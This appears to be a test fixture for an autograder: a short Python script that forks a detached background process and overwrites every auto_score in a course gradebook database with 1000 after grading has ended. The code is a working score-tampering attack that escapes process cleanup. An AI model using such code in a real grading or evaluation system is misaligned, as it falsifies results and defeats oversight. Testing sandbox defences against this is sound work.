"""Leaves a process that changes the gradebook after grading."""

import os
import sqlite3
import threading
import time


def later():
    time.sleep(0.2)
    sqlite3.connect("@COURSE@/gradebook.db").execute(
        "UPDATE grade SET auto_score = 1000"
    ).connection.commit()


threading.Thread(target=later, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    later()
    os._exit(0)
